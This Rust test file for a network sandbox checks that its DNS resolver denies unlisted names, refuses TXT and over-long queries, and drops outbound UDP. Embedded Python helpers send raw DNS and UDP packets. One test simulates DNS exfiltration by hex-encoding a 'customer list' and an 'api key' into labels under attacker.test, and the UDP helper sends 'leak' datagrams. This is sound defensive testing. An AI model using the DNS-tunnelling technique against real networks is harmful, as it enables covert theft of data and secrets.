//! Case C22: airlock's DNS in the fence, and UDP. A name no rule allows gets NXDOMAIN and a
//! `DNS` denial; other types, over-long labels and names get REFUSED (`dns_refused`); UDP
//! to anything but airlock's DNS is refused at once and reaches no host listener.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use airlock_tests::{ok_origin, Fixture};

use super::{denial, fence_or_skip, policy, Fenced, HOST};

/// Raw DNS over UDP to airlock's DNS in the fence (127.0.0.1:53): each query of the JSON
/// list `argv[1]` (`[name, type, class]`) and its answer (`rcode`, A addresses) go to
/// `argv[2]`. Labels are written as given, so a label may be longer than DNS allows.
const DNS_CLIENT: &str = r#"
import json, random, socket, struct, sys

def skip_name(data, i):
    while data[i] != 0:
        if data[i] & 0xC0 == 0xC0:
            return i + 2
        i += data[i] + 1
    return i + 1

def query(name, qtype, qclass):
    qid = random.randrange(65536)
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    packet = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", qtype, qclass)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(packet, ("127.0.0.1", 53))
    data, _ = s.recvfrom(4096)
    rid, flags, qd, an, _, _ = struct.unpack(">HHHHHH", data[:12])
    i = 12
    for _ in range(qd):
        i = skip_name(data, i) + 4
    answers = []
    for _ in range(an):
        i = skip_name(data, i)
        rtype, _, ttl, length = struct.unpack(">HHIH", data[i:i + 10])
        i += 10
        if rtype == 1:
            answers.append(socket.inet_ntoa(data[i:i + length]))
        i += length
    return {"name": name, "type": qtype, "id_matches": rid == qid, "rcode": flags & 0xF, "answers": answers}

json.dump([query(*q) for q in json.loads(sys.argv[1])], open(sys.argv[2], "w"))
"#;

/// A 63-byte label (the most DNS allows) carrying hex "data".
fn exfil_label(seed: &str) -> String {
    seed.bytes()
        .map(|b| format!("{b:02x}"))
        .collect::<String>()
        .chars()
        .cycle()
        .take(63)
        .collect()
}

const TYPE_A: u16 = 1;
const TYPE_AAAA: u16 = 28;
const TYPE_TXT: u16 = 16;
const RCODE_NOERROR: u64 = 0;
const RCODE_NXDOMAIN: u64 = 3;
const RCODE_REFUSED: u64 = 5;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_dns_nxdomain_for_names_no_rule_allows_and_refused_for_txt_journaled() {
    let test = "case_c22_dns_nxdomain_for_names_no_rule_allows_and_refused_for_txt_journaled";
    let Some((fenced, origin)) = Fenced::with_ok_origin(test).await else {
        return;
    };
    let client = fenced.helper("dns.py", DNS_CLIENT);
    let exfil = format!(
        "{}.{}.attacker.test",
        exfil_label("customer list, row 1"),
        exfil_label("api key sk-live")
    );
    let queries = serde_json::json!([
        [HOST, TYPE_A, 1],
        [HOST, TYPE_AAAA, 1],
        ["unlisted.example", TYPE_A, 1],
        [HOST, TYPE_TXT, 1],
        [exfil, TYPE_A, 1],
    ]);
    let script = format!(
        "python3 {} '{queries}' dns.json; \
         curl --noproxy '*' -sS --max-time 20 https://unlisted.example/ 2> curl.err; echo $? > curl.code",
        client.display()
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let answers = fenced.json("dns.json", &ran);
    let answer = |i: usize| &answers[i];
    for i in 0..5 {
        assert_eq!(answer(i)["id_matches"], true, "{:#}", answer(i));
    }
    assert_eq!(answer(0)["rcode"], RCODE_NOERROR, "{:#}", answer(0));
    let pool = answer(0)["answers"][0].as_str().expect("an A answer");
    let pool: std::net::Ipv4Addr = pool.parse().expect("an IPv4 address");
    assert_eq!(
        u32::from(pool) >> 17,
        u32::from(std::net::Ipv4Addr::new(198, 18, 0, 0)) >> 17,
        "the answer is in 198.18.0.0/15: {pool}"
    );
    assert_eq!(answer(1)["rcode"], RCODE_NOERROR, "AAAA: no data");
    assert_eq!(answer(1)["answers"], serde_json::json!([]));
    assert_eq!(answer(2)["rcode"], RCODE_NXDOMAIN, "{:#}", answer(2));
    assert_eq!(answer(3)["rcode"], RCODE_REFUSED, "TXT: {:#}", answer(3));
    assert_eq!(answer(4)["rcode"], RCODE_NXDOMAIN, "exfil: {:#}", answer(4));
    for i in 2..5 {
        assert_eq!(answer(i)["answers"], serde_json::json!([]));
    }
    assert_eq!(
        fenced.read("curl.code"),
        "6",
        "curl: could not resolve host"
    );
    assert!(
        fenced.read("curl.err").contains("Could not resolve host"),
        "{}",
        fenced.read("curl.err")
    );

    let denials = fenced.denials(&ran.run()).await;
    let unlisted = denial(&denials, "DNS", "dns:unlisted.example?type=A");
    assert_eq!(unlisted["reason_code"], "default_deny");
    let txt = denial(&denials, "DNS", &format!("dns:{HOST}?type=TXT"));
    assert_eq!(txt["reason_code"], "dns_refused");
    let leaked = denial(&denials, "DNS", &format!("dns:{exfil}?type=A"));
    assert_eq!(
        leaked["reason_code"], "default_deny",
        "the reviewer sees what the run tried to look up"
    );
    assert!(ran.count("dns_refused") >= 3, "{:#}", ran.report);
    assert!(ran.count("dns_answered") >= 2, "{:#}", ran.report);
    assert!(origin.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_dns_names_past_rfc1035_limits_are_refused_and_journaled() {
    let test = "case_c22_dns_names_past_rfc1035_limits_are_refused_and_journaled";
    let Some((fenced, _origin)) = Fenced::with_ok_origin(test).await else {
        return;
    };
    let client = fenced.helper("dns.py", DNS_CLIENT);
    // One label of 64 bytes carrying "data", and a 259-byte name of legal labels.
    let long_label = format!("{}.attacker.test", "6b".repeat(32));
    let long_name = format!("{}attacker.test", format!("{}.", "a".repeat(62)).repeat(4));
    assert!(long_name.len() > 253);
    let queries = serde_json::json!([[long_label, TYPE_A, 1], [long_name, TYPE_A, 1]]);
    let script = format!("python3 {} '{queries}' dns.json", client.display());
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let answers = fenced.json("dns.json", &ran);
    let denials = fenced.denials(&ran.run()).await;
    for (i, name) in [&long_label, &long_name].into_iter().enumerate() {
        assert_eq!(
            answers[i]["rcode"], RCODE_REFUSED,
            "{name}: REFUSED (docs: a label past 63 bytes or a name past 253 is refused): {:#}",
            answers[i]
        );
        let journaled = denial(&denials, "DNS", &format!("dns:{name}?type=A"));
        assert_eq!(journaled["reason_code"], "dns_refused", "{journaled:#}");
    }
}

/// A UDP socket on the host's 127.0.0.1 that counts datagrams.
async fn udp_listener() -> (u16, Arc<AtomicUsize>) {
    let socket = tokio::net::UdpSocket::bind("127.0.0.1:0")
        .await
        .expect("bind udp listener");
    let port = socket.local_addr().expect("addr").port();
    let received = Arc::new(AtomicUsize::new(0));
    let counter = received.clone();
    tokio::spawn(async move {
        let mut buffer = [0u8; 2048];
        while socket.recv_from(&mut buffer).await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, received)
}

/// UDP from the fence: a connected socket to each `name:port` or `ip:port` target of
/// `argv[2..]` sends a datagram and waits 1 s for an answer; each outcome goes to
/// `argv[1]` as `{target: "answer" | "ExceptionName:errno"}`.
const UDP_CLIENT: &str = r#"
import json, socket, sys
out = {}
for target in sys.argv[2:]:
    host, port = target.rsplit(":", 1)
    try:
        address = socket.gethostbyname(host)
    except OSError as e:
        out[target] = "resolve:" + str(e)
        continue
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.connect((address, int(port)))
        s.send(b"leak")
        s.recv(100)
        out[target] = "answer"
    except OSError as e:
        out[target] = f"{type(e).__name__}:{e.errno}"
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", (address, int(port)))
        out[target + " sendto"] = "sent"
    except OSError as e:
        out[target + " sendto"] = f"{type(e).__name__}:{e.errno}"
json.dump(out, open(sys.argv[1], "w"))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_udp_to_anything_but_airlocks_dns_is_dropped() {
    let test = "case_c22_udp_to_anything_but_airlocks_dns_is_dropped";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let (udp_port, datagrams) = udp_listener().await;
    let fenced = Fenced::start(fx, &policy(origin.addr().port()));
    let client = fenced.helper("udp.py", UDP_CLIENT);
    let pool_target = format!("{HOST}:{udp_port}");
    let loopback_target = format!("127.0.0.1:{udp_port}");
    let script = format!(
        "python3 {} udp.json {pool_target} {loopback_target}",
        client.display()
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let out = fenced.json("udp.json", &ran);
    // To the pool address of an allowed name: the fence's nftables rejects it at once.
    assert_eq!(out[&pool_target], "PermissionError:1", "{out:#}");
    assert_eq!(out[format!("{pool_target} sendto")], "PermissionError:1");
    // To 127.0.0.1: the fence's own loopback, where nothing listens on that port.
    let loopback = out[&loopback_target].as_str().unwrap_or_default();
    assert!(
        loopback == "ConnectionRefusedError:111" || loopback.starts_with("TimeoutError"),
        "{out:#}"
    );
    assert_eq!(
        datagrams.load(Ordering::SeqCst),
        0,
        "the host's UDP listener received nothing"
    );
    assert!(origin.received().is_empty());
}
